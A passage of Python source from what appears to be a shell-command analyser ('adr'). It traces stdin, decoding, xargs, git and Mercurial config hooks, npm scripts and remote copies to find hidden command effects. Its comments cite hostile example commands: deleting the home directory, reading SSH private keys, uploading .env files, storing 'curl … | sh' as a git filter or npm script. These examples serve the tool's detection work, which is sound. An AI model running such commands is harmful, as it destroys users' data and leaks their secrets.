            m.downstream.extend(p for p in d.downstream if p not in m.downstream)
        d.runs_as.extend(made[:8])

    def written_content(self, path: str) -> str | None:
        for w in reversed(self.writes):
            if w.content is not None and (w.path == path or w.path.lstrip("./") == path.lstrip("./")):
                return w.content
        return None

    def feed(self, d: _Draft, data: str, depth: int) -> None:
        """Literal stdin reached a command: decode it, run it, or pass it on as output."""
        prog = d.argv[0] if d.argv else ""
        args = d.argv[1:]
        via = d.via
        if prog in ("ssh", "autossh") and not _ssh_remote_command(list(args)):
            # `ssh host <<EOF … EOF`: the remote login shell runs what comes on stdin
            self.remote_commands(self.nested_shell(data, via, depth, "ssh remote command", inherit=None))
            return
        if prog in _CONTAINER_TOOLS and _passes_stdin(prog, list(args)):
            inner = _container_command(prog, list(args))
            if inner:
                # `echo 'DROP TABLE users;' | docker exec -i pg psql`: the command inside reads it
                self.nested_shell(_host_view(prog, list(args), inner) + " <<< " + _sh_quote(data), via, depth,
                                  f"{prog} {args[0]} stdin", inherit=d)
        if prog in ("make", "gmake", "bmake") and any(
                a in ("-", "/dev/stdin") and k > 0 and args[k - 1] in ("-f", "--file", "--makefile")
                or a in ("-f-", "--file=-", "--makefile=-", "--file=/dev/stdin", "--makefile=/dev/stdin")
                for k, a in enumerate(args)):
            # `make -f - <<< $'x:\n\tCMD'`: the makefile comes on stdin — read as make's --eval text is
            for cmd in _option_commands(prog, ["--eval=" + data[:MAX_DECODED]]):
                self.nested_shell(cmd, via, depth, f"{prog} makefile on stdin", inherit=d)
        if prog in escapes.STDIN_SCRIPTED:
            # a script on stdin: `ftp h <<< '!rm -rf ~'`, `sqlite3 x.db <<< '.shell …'`, `ed f <<< '!…'`
            for cmd in escapes.escapes_in(prog, data):
                self.nested_shell(cmd, via, depth, f"{prog} shell escape", inherit=d)
            self.add_effects([effects.Effect("write", f) for f in escapes.script_writes(prog, data)], prog, via)
        if prog in _VIMS and (prog == "ex" or any(re.fullmatch(r"-[A-Za-z]*[eE][A-Za-z]*", a) for a in args)):
            # ex mode reads Ex commands on stdin: `vim -es <<< '!rm -rf ~'`, `printf '…' | ex -s`
            lines = data.splitlines()
            if len(lines) > MAX_VIM_COMMANDS:
                self.issue("too-large", f"more editor commands than adr reads: {d.raw[:80]}", via)
            for cmd in _vim_commands(lines[:MAX_VIM_COMMANDS], _vim_files(args)):
                self.nested_shell(cmd, via, depth, f"{prog} command on stdin", inherit=d)
        if prog in effects.EDITORS:
            self.add_effects(effects.tool_effects(prog, args, stdin=data), prog, via)
        elif prog in effects.DELETERS and ("xargs" in d.wrappers or "parallel" in d.wrappers):
            # `echo .git | xargs rm -rf`: the words on stdin are more targets
            words = _xargs_words(data)[:32]
            if words:
                self.add_effects(effects.tool_effects(prog, list(args) + words), prog, via)
        elif ("xargs" in d.wrappers or "parallel" in d.wrappers) and (
                _changes_its_operands(prog.rsplit("/", 1)[-1], list(args)) or prog.rsplit("/", 1)[-1] in _XARGS_READERS):
            # `echo ~/.config/adr/config.yaml | xargs sed -i …`, `ls ~/.ssh/id_* | xargs cat`: the
            # words on stdin are its files
            self.xargs_on(d, _xargs_words(data)[:8], _join_via(via, "xargs"))
        elif ("xargs" in d.wrappers or "parallel" in d.wrappers) and prog not in SHELLS and prog != "eval" \
                and len(data) <= 4096:
            # `printf 'rb s3://b --force' | xargs aws s3`: the words on stdin complete the command line —
            # its subcommand, verb and operands may all arrive that way
            self.xargs_on(d, _xargs_words(data)[:32], _join_via(via, "xargs"))
        if prog in SHELLS and _shell_c_arg(args) is None and (
                _first_positional(args) is None or _first_positional(args) in STDIN_PATHS) or \
                prog in ("source", ".") and args and args[0] in STDIN_PATHS:
            if ("xargs" in d.wrappers or "parallel" in d.wrappers) and _first_positional(args) is None \
                    and not any("{}" in a for a in args):
                # `echo x.sh | xargs sh`: the words are its operands — the script file and its arguments
                # (the text is still judged as a script below: never quieter than before)
                self.xargs_on(d, _xargs_words(data)[:32], _join_via(via, "xargs"))
            # `bash /dev/stdin <<< …`, `source /dev/stdin <<EOF`, `sh /proc/self/fd/0`: the text is the script
            self.nested_shell(data, via, depth, f"stdin of {prog}", inherit=d)
            return
        if prog not in SHELLS and _reads_commands(d):
            self.nested_shell(data, via, depth, f"lines {prog} runs", inherit=d)  # awk '{system($0)}'
            return
        if prog in ("curl", "curlie") and any(a in ("-K", "--config") for a in args) and \
                ("-" in args or "--config=-" in args) and depth < MAX_LAYERS:
            self.curl_config(d, data, via, depth)  # `printf 'request = DELETE' | curl -K - …`
        lang = interpreters.language_of(prog)
        inline = interpreters.inline_code(prog, tuple(args)) if lang is not None else None
        if inline is not None and inline[0] != "awk" and data.strip() and interpreters.reads_stdin(inline[1]) \
                and interpreters.can_run_commands(inline[1], inline[0]):
            # `python3 -c 'os.system(sys.stdin.read())' <<< 'rm -rf ~'`: the code runs what it reads
            self.nested_shell(data, via, depth, f"stdin of {prog} run", inherit=d)
        first = _first_positional(args)
        if first == "run" and prog in ("deno", "bun", "zig", "dart"):  # `deno run -A - <<< CODE`: the script after `run`
            first = _first_positional(list(args)[list(args).index("run") + 1:])
        if lang is not None and lang != "awk" and inline is None \
                and (first in (None, "-") or first in STDIN_PATHS):
            self.script(lang, data, _join_via(via, f"stdin of {prog}"), depth, d)
            return
        if ("xargs" in d.wrappers or "parallel" in d.wrappers) and (prog in SHELLS or prog == "eval"):
            if any("{}" in a for a in args):
                # `… | xargs -I{} sh -c '{}'`: each input line is spliced into the command it runs
                self.xargs_on(d, [ln for ln in data.replace("\0", "\n").split("\n") if ln.strip()][:8],
                              _join_via(via, "xargs"))
            elif _shell_c_arg(list(args)) is not None or prog == "eval":
                # `printf 'rm\0-rf\0/x' | xargs -0 sh -c '"$@"' _`: the words become the script's $1 …
                self.xargs_on(d, _xargs_words(data)[:32], _join_via(via, "xargs"))
        if d.template is not None and prog in ("echo", "printf") and generate.INPUT in d.template:
            d.output = "".join(d.template.replace(generate.INPUT, ln) for ln in generate.input_lines(data))
        elif prog in ("sed", "gsed") and not d.args_dynamic:
            d.output = generate.sed_text(args, data)[0]
        elif interpreters.language_of(prog) in ("awk", "perl") and not d.args_dynamic:
            code = interpreters.inline_code(prog, tuple(args))
            if code is not None:
                self.printed(d, code[0], code[1], data)
        if prog in _LINE_FILTERS and prog not in ("cat", "tee") and _filters_stdin(prog, args):
            d.output = data  # some of these lines (judging all of them can only add to what is seen)
        if prog == "cat" and not [a for a in args if a != "-"]:
            d.output = data
        elif prog == "cat" and "-" in args and d.output is None and not d.output_seen:
            d.output_seen = data  # `cat notes.txt - <<< …`: among what it prints
        elif (prog.startswith("base") and any(a in ("-d", "--decode", "-D") or
                                              (a.startswith("-") and "d" in a and not a.startswith("--")) for a in args)) \
                or prog in ("b64decode", "gbase64-d"):
            d.output = _b64(data, d, self)
        elif prog == "xxd" and "-r" in " ".join(args):
            d.output = _unhex(data)
        elif prog == "rev":
            d.output = "\n".join(line[::-1] for line in data.split("\n"))
        elif prog == "tr":
            d.output = trchars.run(data, args)
        elif prog == "dd" and not any(a.startswith("if=") for a in args):
            for i, w in enumerate(self.writes):
                if w.content is None and w.by == "dd" and any(a == "of=" + w.path for a in args):
                    self.writes[i] = FileWrite(w.path, data, w.append or "oflag=append" in args, w.by, w.via)
            return
        elif prog == "tee":
            d.output = data
            targets = set(_positionals(args))
            for i, w in enumerate(self.writes):
                if w.content is None and w.by == "tee" and w.path in targets:
                    self.writes[i] = FileWrite(w.path, data, w.append, w.by, w.via)
            return
        if d.output is not None:
            # a redirect already recorded with unknown content now has it
            for i, w in enumerate(self.writes):
                if w.content is None and w.by == prog and any(r.target == w.path for r in d.redirects):
                    self.writes[i] = FileWrite(w.path, d.output, w.append, w.by, w.via)


def raw_name(w: "_Walker", node: ts.Node) -> str:
    return w.text(node)[:120]


def _b64(data: str, d: _Draft, w: _Walker) -> str | None:
    s = "".join(data.split())
    if not s:
        return None
    try:
        raw = base64.b64decode(s + "=" * (-len(s) % 4), validate=False)
    except (binascii.Error, ValueError):
        w.issue("decode-failed", "base64 that does not decode", d.via)
        return None
    return raw[:MAX_DECODED].decode("utf-8", "replace")


def _unhex(data: str) -> str | None:
    s = re.sub(r"[^0-9a-fA-F]", "", data)
    try:
        return bytes.fromhex(s[: len(s) - len(s) % 2])[:MAX_DECODED].decode("utf-8", "replace")
    except ValueError:
        return None


# programs with file effects beyond redirects, tee, cp and dd (adr.shell.effects)
_EFFECT_TOOLS = effects.TOOL_PROGRAMS

# programs whose output or output file is content from the network (for download-then-run)
# programs that pass on some of their input lines, unchanged
_LINE_FILTERS = frozenset({"grep", "egrep", "fgrep", "rg", "sort", "uniq", "head", "tail", "tac", "shuf", "cat", "tee"})
# programs that print the files they are given (what they feed a shell is read from disk: adr.shell.runs)
FILE_READERS = frozenset({"cat", "head", "tail", "tac", "less", "more", "grep", "egrep", "fgrep", "sort", "uniq",
                          "shuf"})


def _made_into_sent(made: "dict[str, str]", sent: str) -> list[str]:
    """The producers of what a sent path carries: the file itself, a file written inside a folder that is
    sent (`cp .env dist/app.env && aws s3 cp dist/ s3://b --recursive`, `npm publish /tmp/p`), one a glob
    sent names (`cp .env dist/ && twine upload dist/*`: a copy into a folder writes the file under its
    own name there)."""
    if sent in made:
        return [made[sent]]
    folder = sent.rstrip("/") + "/"
    here = folder in ("./", "/")  # the working directory: what the line wrote under it by a relative name
    out: list[str] = []
    for t, p in list(made.items())[:64]:
        names = [t]
        m = _CAT_ONE.fullmatch(p) if t.endswith("/") else None
        if m:
            names.append(t + posixpath.basename(m.group(1).rstrip("/")))
        if any(n != folder and (n.startswith(folder) if not here else sent != "/" and not n.startswith(("/", "~", "$", "../")))
               or ("*" in sent or "?" in sent) and fnmatch.fnmatchcase(n, sent) for n in names):
            out.append(p)
    return out


# a substitution that prints one file back: `$(cat F)`, `$(< F)`, `` `cat F` ``
_READ_BACK = lazyre.compile(r"\$\((?:cat\s+|<\s*)([^\s|;&<>(){}$`'\"]+)\s*\)|`cat\s+([^\s|;&<>(){}$`'\"]+)\s*`")


def read_back_words(words: "Sequence[str]", producer_of: "Callable[[str], str | None]") -> list[str]:
    """`words` with each `$(cat F)`, `$(< F)`, `` `cat F` `` of a file whose producer is known (a command
    earlier on the line, or in an earlier call: adr/daemon/crosscall.py) spelled `$(PRODUCER)`."""
    def one(m: "re.Match[str]") -> str:
        producer = producer_of(m.group(1) or m.group(2))
        return "$(" + producer + ")" if producer else m.group(0)
    return [_READ_BACK.sub(one, a) if "$(" in a or "`" in a else a for a in words]


_CAT_ONE = lazyre.compile(r"cat ([^\s|;&<>(){}$`]+)")


def _plain_path(p: str) -> str:
    while p.startswith("./"):
        p = p[2:]
    return p


# package managers that install a file they are given (a downloaded archive is its URL's package)
_INSTALLERS = frozenset({"pip", "pip3", "uv", "pipx", "npm", "pnpm", "yarn", "bun", "gem", "cargo", "poetry", "conda",
                         "dpkg", "apt", "apt-get", "rpm", "dnf", "yum", "brew", "installer"})


# programs that copy a file from another host here (`scp host:x.sh . && sh x.sh` runs what came from it)
REMOTE_COPIERS = frozenset({"scp", "rsync", "sftp", "tftp"})
_COPY_OPTS_WITH_VALUE = {
    "scp": frozenset({"-P", "-i", "-o", "-F", "-c", "-l", "-S", "-J", "-D", "-X"}),
    "sftp": frozenset({"-P", "-i", "-o", "-F", "-c", "-l", "-S", "-J", "-D", "-B", "-b", "-R", "-s", "-X"}),
    "rsync": frozenset({"-e", "--rsh", "--port", "--exclude", "--include", "--filter", "-f", "--password-file",
                        "--rsync-path", "--log-file", "-T", "--temp-dir", "--partial-dir", "--backup-dir",
                        "--compare-dest", "--link-dest", "--copy-dest", "--chmod", "--chown", "--timeout",
                        "--bwlimit", "--max-size", "--min-size", "--files-from", "--exclude-from", "--include-from",
                        "-B", "--block-size", "--suffix", "--usermap", "--groupmap", "--out-format", "--log-file-format"}),
}
_REMOTE_OPERAND = lazyre.compile(r"(?:scp|sftp|rsync)://\S+|(?:[^@/:\s]+@)?\[?[\w.:-]*[\w\]]:{1,2}\S*")


def _remote_copy_targets(prog: str, args: list[str]) -> list[str]:
    """Local files a remote copy writes: scp/sftp/rsync `HOST:SRC… DEST` (DEST, or DEST/NAME when DEST
    is a folder — both are named, the disk is not asked here), tftp `-c get SRC [DEST]` / busybox's
    `-g -r SRC [-l DEST]`, lwp-download is a downloader (adr.shell.fetches)."""
    if prog == "tftp":
        if "-c" in args:
            rest = args[args.index("-c") + 1:]
            if rest[:1] == ["get"] and len(rest) >= 2:
                return [rest[2] if len(rest) > 2 else posixpath.basename(rest[1])]
        if "-g" in args:
            local = next((args[i + 1] for i, a in enumerate(args[:-1]) if a == "-l"), None)
            remote = next((args[i + 1] for i, a in enumerate(args[:-1]) if a == "-r"), None)
            return [local or posixpath.basename(remote or "")] if (local or remote) else []
        return []
    pos = _positionals_skipping(args, _COPY_OPTS_WITH_VALUE.get(prog, frozenset()))
    if len(pos) < 2:
        return []
    *sources, dest = pos
    remote = [src for src in sources if _REMOTE_OPERAND.fullmatch(src) and not src.startswith(("/", "./", "~"))]
    if not remote or _REMOTE_OPERAND.fullmatch(dest):
        return []
    out = [dest]
    for src in remote[:8]:
        name = posixpath.basename(src.split(":")[-1].rstrip("/"))
        if name and name not in (".", ".."):
            out.append(dest.rstrip("/") + "/" + name if dest not in (".", "./") else name)
    return out


def fetched_files(prog: str, args: "list[str] | tuple[str, ...]", redirects: "tuple[Redirect, ...]" = ()) \
        -> list[tuple[str, str]]:
    """(local path as written, where from) for what a remote copy or a downloader writes: `scp u@h:x.sh .`
    → ("x.sh", "scp://u@h/x.sh"), `curl -o x URL`, `lwp-download URL`, `curl URL > x` (adr.shell.fetches)."""
    args = list(args)
    if prog in REMOTE_COPIERS:
        remote = next((a for a in args if _REMOTE_OPERAND.fullmatch(a) and not a.startswith(("/", "./", "~"))), "")
        if prog == "tftp":
            host = next((a for a in args if not a.startswith("-") and a not in ("get", "put")), "")
            remote = f"tftp://{host}"
        elif remote and "://" not in remote:
            remote = f"{prog}://" + remote.replace("::", "/", 1).replace(":", "/", 1)
        return [(t, remote) for t in _remote_copy_targets(prog, args)] if remote else []
    if prog in DOWNLOADERS:
        return download_targets(prog, args) or redirected_download(prog, args, redirects)
    return []


_COPIERS = frozenset({"cp", "mv", "install", "ln", "rsync", "scp", "ditto"})


_GIT_EXEC_KEYS = lazyre.compile(r"(?i)(?:core\.(?:pager|sshcommand|editor|fsmonitor|hookspath|askpass|gitproxy)|"
                                r"sequence\.editor|diff\.external|pager\.\w+|credential\.(?:[^=]*\.)?helper|alias\.[\w-]+|"
                                r"gpg\.ssh\.defaultkeycommand|interactive\.difffilter|core\.alternaterefscommand|"
                                r"sendemail\.(?:tocmd|cccmd|headercmd)|trailer\.[^=]+\.(?:cmd|command)|"
                                r"submodule\.[^=]+\.update|"
                                r"gpg\.program|gpg\.\w+\.program|uploadpack\.packobjectshook|protocol\.ext\.allow|"
                                r"filter\.[^=]+\.(?:clean|smudge|process)|diff\.[^=]+\.(?:textconv|command)|"
                                r"merge\.[^=]+\.driver|(?:diff|merge)tool\.[^=]+\.cmd|remote\.[^=]+\.(?:uploadpack|receivepack)|"
                                r"sendemail\.sendmailcmd|web\.browser|browser\.[^=]+\.cmd|man\.[^=]+\.cmd)=(.*)", re.S)
# Mercurial's settings whose value it runs (a hook, the ssh/editor/merge/pager program) or loads (an
# extension's file): `hg --config hooks.pre-status='…' status`
_HG_EXEC_KEYS = lazyre.compile(r"(?i)(?:hooks\.[^=]+|ui\.(?:ssh|editor|merge)|pager\.pager|merge-tools\.[^=]+\.executable|"
                               r"extdiff\.[^=]+|(?P<ext>extensions\.[^=]+))=(?P<val>.*)", re.S)


def _hg_config_command(opt: str) -> "str | None":
    """What `hg --config KEY=VALUE` runs: the command of a shell hook (a `python:` hook is code in a
    module), or an extension file loaded as Python (`extensions.x=/tmp/x.py` → `python3 /tmp/x.py`)."""
    m = _HG_EXEC_KEYS.fullmatch(opt)
    if m is None or not m.group("val").strip():
        return None
    val = m.group("val").strip()
    if val.startswith("internal:"):
        return None  # one of Mercurial's own merge tools
    if m.group("ext"):
        path = val.lstrip("!")
        return "python3 " + _sh_quote(path) if "/" in path or path.endswith(".py") else None
    if val.startswith("python:"):
        path = val[7:].rsplit(":", 1)[0]
        return "python3 " + _sh_quote(path) if "/" in path or path.endswith(".py") else None
    return val


# git subcommands that run a command they are given: (subcommand, options whose value is a command)
_GIT_CMD_OPTIONS = {
    "clone": ("-u", "--upload-pack"), "fetch": ("--upload-pack",), "pull": ("--upload-pack",),
    "ls-remote": ("--upload-pack",), "archive": ("--exec",), "push": ("--receive-pack", "--exec"),
    "rebase": ("-x", "--exec"), "difftool": ("-x", "--extcmd"), "grep": ("-O", "--open-files-in-pager"),
}
# git's own options before the subcommand that take a value (one list for the shell layer and the engine)
GIT_GLOBAL_VALUED = frozenset({"-C", "-c", "--git-dir", "--work-tree", "--namespace", "--exec-path", "--config-env"})


def _git_commands(args: "list[str] | tuple[str, ...]") -> list[str]:
    """Commands a git subcommand runs: `rebase -x CMD`, `bisect run CMD…`, `submodule foreach CMD`,
    `clone -u CMD`, `difftool -x CMD`, `grep -O CMD`, an `ext::CMD` remote."""
    args = list(args)
    i = 0
    while i < len(args) and args[i].startswith("-"):
        i += 2 if args[i] in GIT_GLOBAL_VALUED else 1
    if i >= len(args):
        return []
    sub, rest = args[i], args[i + 1:]
    out: list[str] = []
    for a in rest:
        if a.startswith("ext::"):
            # git's ext transport runs this argv: words split on spaces, `% ` an escaped space, `%%` a %
            words = re.split(r"(?<!%) ", a[5:].replace("%%", "\0"))
            out.append(" ".join(_sh_quote(w.replace("% ", " ").replace("\0", "%")) for w in words if w))
    if sub == "bisect" and rest[:1] == ["run"] and len(rest) > 1:
        out.append(" ".join(_sh_quote(a) for a in rest[1:]))
    elif sub == "submodule":
        k = next((j for j, a in enumerate(rest) if not a.startswith("-")), len(rest))
        if rest[k:k + 1] == ["foreach"]:
            # foreach's own options come first; every word after them is the command, options and all
            # (`foreach --recursive git clean -fdx`), run by a shell as one string
            cmd = rest[k + 1:]
            while cmd and cmd[0] in ("--recursive", "-q", "--quiet", "--"):
                cmd = cmd[1:]
            if cmd:
                out.append(" ".join(cmd))
    opts = _GIT_CMD_OPTIONS.get(sub, ())
    for j, a in enumerate(rest):
        for o in opts:
            if a == o and j + 1 < len(rest):
                out.append(rest[j + 1])
            elif o.startswith("--") and a.startswith(o + "="):
                out.append(a.split("=", 1)[1])
            elif not o.startswith("--") and a.startswith(o) and len(a) > len(o):
                out.append(a[len(o):])  # -xCMD, -uCMD
    return [c for c in out if c.strip()][:8]


def _git_alias_definition(args: "list[str] | tuple[str, ...]") -> "str | None":
    """`git config [--global|--local|--file F] alias.NAME 'VALUE'`: the git command line the alias will
    run (judged when it is defined, since every later `git NAME` runs it); None for a shell alias
    (`!…`, judged as the command it is elsewhere), a read, an unset."""
    named = _git_alias_named(args)
    return "git " + named[1] if named else None


def _git_config_set(args: "list[str] | tuple[str, ...]") -> "tuple[str, str] | None":
    """(KEY, VALUE) that `git config [--global|--file F|--add …] [set] KEY VALUE` stores; None for a
    read, an unset, a listing."""
    argv = ["git"] + list(args)
    sub, _ = _git_subcommand(argv)
    if sub is None or argv[sub] != "config":
        return None
    rest = argv[sub + 1:]
    if any(o in rest for o in ("--get", "--get-all", "--unset", "--unset-all", "--list", "-l", "--remove-section",
                               "--rename-section", "--get-regexp", "--show-origin", "--get-urlmatch")):
        return None
    pos = _positionals_after_options(rest, {"--file", "-f", "--blob", "--type", "--default", "--comment"})
    if pos[:1] == ["set"]:
        pos = pos[1:]  # git ≥ 2.46: `git config set KEY VALUE`
    return (pos[0], pos[1]) if len(pos) >= 2 else None


def _git_config_command(args: "list[str] | tuple[str, ...]") -> "str | None":
    """The command line a `git config KEY VALUE` stores for git to run later (core.pager, filter.X.clean,
    diff.X.textconv, credential.helper `!…`, merge.X.driver …): judged when it is stored, as `git -c
    KEY=VALUE` is when it runs (a plain name — less, cat — is no command line to judge)."""
    kv = _git_config_set(args)
    if kv is None or kv[0][:6].lower() == "alias." and not kv[1].lstrip().startswith("!"):
        return None  # (a git-command alias: _git_alias_definition; a `!…` one is a shell command line)
    m = _GIT_EXEC_KEYS.fullmatch(f"{kv[0]}={kv[1]}")
    if m is None or not m.group(1) or m.group(1).lower() in ("true", "false", "less", "cat", "more", "always",
                                                             "never", "user"):
        return None
    return m.group(1).lstrip("!")


_PKG_SCRIPT_KEY = re.compile(r"""["']?scripts(?:\.([^=\[\]]+)|\[["']?([^\]"']+)["']?\])["']?=(.*)""", re.S)


def _package_script_commands(prog: str, args: "list[str] | tuple[str, ...]") -> list[str]:
    """The command lines `npm pkg set scripts.NAME=CMD` (pnpm, bun pm, `npm set-script NAME CMD`)
    stores in package.json for a later `npm test`/`npm run NAME` to run: judged when stored, as a
    `git config core.pager CMD` is (`--json scripts='{…}'`: each string value); so is gh's shell alias."""
    argv = list(args)
    if prog == "gh" and argv[:2] == ["alias", "set"]:
        # `gh alias set NAME '!CMD'` / `--shell NAME CMD`: a shell command line every `gh NAME` runs
        pos = [a for a in argv[2:] if not a.startswith("-")]
        shell = any(a in ("-s", "--shell") for a in argv[2:])
        return [pos[1].lstrip("!")] if len(pos) >= 2 and (shell or pos[1].startswith("!")) else []
    if prog not in ("npm", "pnpm", "bun", "yarn"):
        return []
    out: list[str] = []
    if "set-script" in argv:
        pos = [a for a in argv[argv.index("set-script") + 1:] if not a.startswith("-")]
        return pos[1:2]
    if "set" not in argv or "pkg" not in argv[:argv.index("set")]:
        return []
    for a in argv[argv.index("set") + 1:][:64]:
        m = _PKG_SCRIPT_KEY.fullmatch(a)
        if m:
            out.append(m.group(3))
        elif a.startswith("scripts=") and "--json" in argv:
            try:
                val = json.loads(a[8:])
            except ValueError:
                continue
            if isinstance(val, dict):
                out += [v for v in list(val.values())[:16] if isinstance(v, str)]
    return out


def _git_alias_named(args: "list[str] | tuple[str, ...]") -> "tuple[str, str] | None":
    """(NAME, VALUE) of `git config … alias.NAME 'VALUE'` (a git command alias, not a `!` one)."""
    argv = ["git"] + list(args)
    sub, _ = _git_subcommand(argv)
    if sub is None or argv[sub] != "config":
        return None
    rest = argv[sub + 1:]
    pos = _positionals_after_options(rest, {"--file", "-f", "--blob", "--type", "--default", "--comment"})
    if any(o in rest for o in ("--get", "--get-all", "--unset", "--unset-all", "--list", "-l", "--remove-section",
                               "--rename-section", "--get-regexp", "--show-origin")):
        return None
    if pos[:1] == ["set"]:
        pos = pos[1:]  # git ≥ 2.46: `git config set KEY VALUE`
    if len(pos) >= 2 and pos[0][:6].lower() == "alias." and not pos[1].lstrip().startswith("!"):
        return pos[0][6:].lower(), pos[1]
    return None


def _git_alias_call(args: "list[str] | tuple[str, ...]", defined: "dict[str, str]") -> "str | None":
    """`git -c alias.t=tag t -f v1` (or `git config alias.t tag && git t -f v1`): the command line the
    call runs — the alias's body with the call's own words after it. Judging the body alone when it is
    defined misses what the call adds (`-f`, `--delete`, a +refspec); None when no alias is called."""
    aliases = dict(defined)
    lead: list[str] = []
    i = 0
    while i < len(args) and args[i].startswith("-"):
        a = args[i]
        if a in GIT_GLOBAL_VALUED and i + 1 < len(args):
            key, eq, val = args[i + 1].partition("=")
            if a == "-c" and eq and key[:6].lower() == "alias.":
                aliases[key[6:].lower()] = val
            else:
                lead += [a, args[i + 1]]
            i += 2
            continue
        lead.append(a)
        i += 1
    if i >= len(args) or not aliases:
        return None
    body = aliases.get(args[i].lower(), "")
    if not body.strip() or body.lstrip().startswith("!"):
        return None  # a shell alias is judged as its command where it is defined
    return " ".join(["git"] + [_sh_quote(w) for w in lead] + [body] + [_sh_quote(w) for w in args[i + 1:]])


# git accepts any unambiguous prefix of a long option (`git reset --har` is --hard): the options that
# decide what a command destroys, skips or forces, spelled out so that every rule sees one spelling
_GIT_LONG = {
    "reset": ("--hard", "--merge", "--keep", "--soft", "--mixed", "--quiet", "--patch", "--pathspec-from-file",
              "--no-refresh", "--recurse-submodules"),
    "clean": ("--force", "--dry-run", "--interactive", "--quiet", "--exclude"),
    "checkout": ("--force", "--discard-changes", "--ours", "--theirs", "--merge", "--orphan", "--detach", "--quiet",
                 "--track", "--no-track", "--patch", "--pathspec-from-file", "--overlay", "--no-overlay"),
    "switch": ("--discard-changes", "--force", "--force-create", "--create", "--orphan", "--detach", "--merge",
               "--quiet", "--track", "--no-track", "--guess", "--no-guess"),
    "restore": ("--staged", "--worktree", "--source", "--overlay", "--no-overlay", "--patch", "--ours", "--theirs",
                "--merge", "--quiet", "--pathspec-from-file", "--ignore-unmerged"),
    "push": ("--force", "--force-with-lease", "--force-if-includes", "--mirror", "--delete", "--prune", "--all",
             "--tags", "--no-verify", "--verify", "--dry-run", "--set-upstream", "--follow-tags", "--porcelain",
             "--progress", "--quiet", "--verbose", "--atomic", "--push-option", "--receive-pack", "--exec",
             "--repo", "--no-force-with-lease", "--thin", "--no-thin", "--signed", "--recurse-submodules"),
    "branch": ("--delete", "--force", "--move", "--copy", "--set-upstream-to", "--unset-upstream", "--list",
               "--all", "--remotes", "--verbose", "--quiet", "--track", "--no-track", "--contains", "--merged",
               "--no-merged", "--show-current", "--sort", "--format", "--color", "--column", "--edit-description"),
    "worktree": ("--force", "--detach", "--checkout", "--lock", "--reason", "--quiet", "--track", "--guess-remote",
                 "--orphan", "--expire", "--dry-run", "--verbose", "--porcelain"),
    "gc": ("--prune", "--no-prune", "--aggressive", "--auto", "--quiet", "--force", "--keep-largest-pack", "--cruft"),
    "commit": ("--no-verify", "--verify", "--amend", "--all", "--message", "--file", "--quiet", "--signoff",
               "--no-edit", "--edit", "--allow-empty", "--patch", "--reuse-message", "--fixup", "--squash",
               "--author", "--date", "--dry-run", "--interactive", "--include", "--only", "--untracked-files"),
    "tag": ("--delete", "--force", "--annotate", "--message", "--file", "--sign", "--list", "--verify"),
    "fetch": ("--prune", "--prune-tags", "--force", "--all", "--tags", "--dry-run", "--depth", "--quiet",
              "--upload-pack", "--unshallow", "--update-head-ok"),
    "merge": ("--no-verify", "--verify", "--abort", "--continue", "--squash", "--no-ff", "--ff-only", "--strategy"),
    "stash": (),
}


def _expand_git_abbrev(argv: "list[str]") -> "list[str]":
    """argv of `git …` with abbreviated long options of its subcommand spelled in full. An abbreviation
    that fits several options is left alone (git refuses it too), except among the --force family,
    which is what git would be asked for."""
    sub, _ = _git_subcommand(argv)
    if sub is None:
        return argv
    opts = _GIT_LONG.get(argv[sub])
    if not opts:
        return argv
    out = list(argv)
    for k in range(sub + 1, len(argv)):
        a = argv[k]
        if a == "--":
            break
        if not a.startswith("--") or len(a) < 4:
            continue
        name, eq, val = a.partition("=")
        if name in opts:
            continue
        hits = [o for o in opts if o.startswith(name)]
        if len(hits) > 1 and all(h.startswith("--force") for h in hits):
            hits = ["--force"]
        if len(hits) == 1:
            out[k] = hits[0] + eq + val
    return out


def _git_env_config(env: "dict[str, str]") -> "list[str]":
    """The `-c KEY=VALUE` words git reads from its environment (GIT_CONFIG_COUNT with GIT_CONFIG_KEY_n /
    GIT_CONFIG_VALUE_n, and GIT_CONFIG_PARAMETERS's `'key'='value'` list)."""
    out: list[str] = []
    try:
        count = min(int(env.get("GIT_CONFIG_COUNT", "0") or 0), 16)
    except ValueError:
        count = 0
    for n in range(count):
        k, v = env.get(f"GIT_CONFIG_KEY_{n}"), env.get(f"GIT_CONFIG_VALUE_{n}")
        if k and v is not None:
            out += ["-c", f"{k}={v}"]
    # (both spellings git reads: `'key'='value'`, and the older `'key=value'`)
    for m in re.finditer(r"'([^'=]+)'='([^']*)'|'([^'=]+)=([^']*)'", env.get("GIT_CONFIG_PARAMETERS", "")[:4096]):
        out += ["-c", f"{m.group(1)}={m.group(2)}" if m.group(1) is not None else f"{m.group(3)}={m.group(4)}"]
    return out


def _option_commands(prog: str, args: "list[str] | tuple[str, ...]") -> list[str]:
    """Option values a program runs as commands (git -c core.pager=…, tar --checkpoint-action=exec=…,
    rsync -e …, ssh -o ProxyCommand=…, vim -c ':!…', watch 'cmd', script -c 'cmd')."""
    out: list[str] = []
    n = len(args)
    # rsync --rsync-path=CMD is run at the other end (here, when that end is this machine); rg --pre CMD
    # is run on every file searched
    local_end = prog == "rsync" and any(re.match(r"^(?:[^@/\s]+@)?(?:localhost|127\.\d+\.\d+\.\d+|\[?::1\]?):", a)
                                        for a in args)
    for i, a in enumerate(args):
        for prog_name, opt in (("rsync", "--rsync-path"), ("rg", "--pre")):
            if prog == prog_name and (prog != "rsync" or local_end):
                if a.startswith(opt + "="):
                    out.append(a.split("=", 1)[1])
                elif a == opt and i + 1 < n:
                    out.append(args[i + 1])
    vim_cmds: list[str] = []
    out += _package_script_commands(prog, args)  # `npm pkg set scripts.test='curl … | sh'`: what `npm test` runs
    if prog == "git":
        alias = _git_alias_definition(args)
        if alias:
            out.append(alias)
        stored = _git_config_command(args)
        if stored:
            out.append(stored)  # `git config filter.x.clean 'curl … | sh'`: what every later `git add` runs
    for i, a in enumerate(args):
        nxt = args[i + 1] if i + 1 < n else ""
        if prog == "git" and a == "-c" and nxt:
            m = _GIT_EXEC_KEYS.fullmatch(nxt)
            if m and m.group(1) and nxt[:6].lower() == "alias." and not m.group(1).startswith("!"):
                out.append("git " + m.group(1))  # `-c alias.x='push -f' x`: an alias is a git command line
            elif m and m.group(1) and not m.group(1).lower() in ("true", "false", "less", "cat", "more", "always",
                                                                 "never", "user"):
                out.append(m.group(1).lstrip("!"))
        elif prog in ("hg", "chg") and (a == "--config" and nxt or a.startswith("--config=")):
            got = _hg_config_command(nxt if a == "--config" else a.split("=", 1)[1])
            if got:
                out.append(got)
        elif prog in ("tar", "gtar", "bsdtar"):
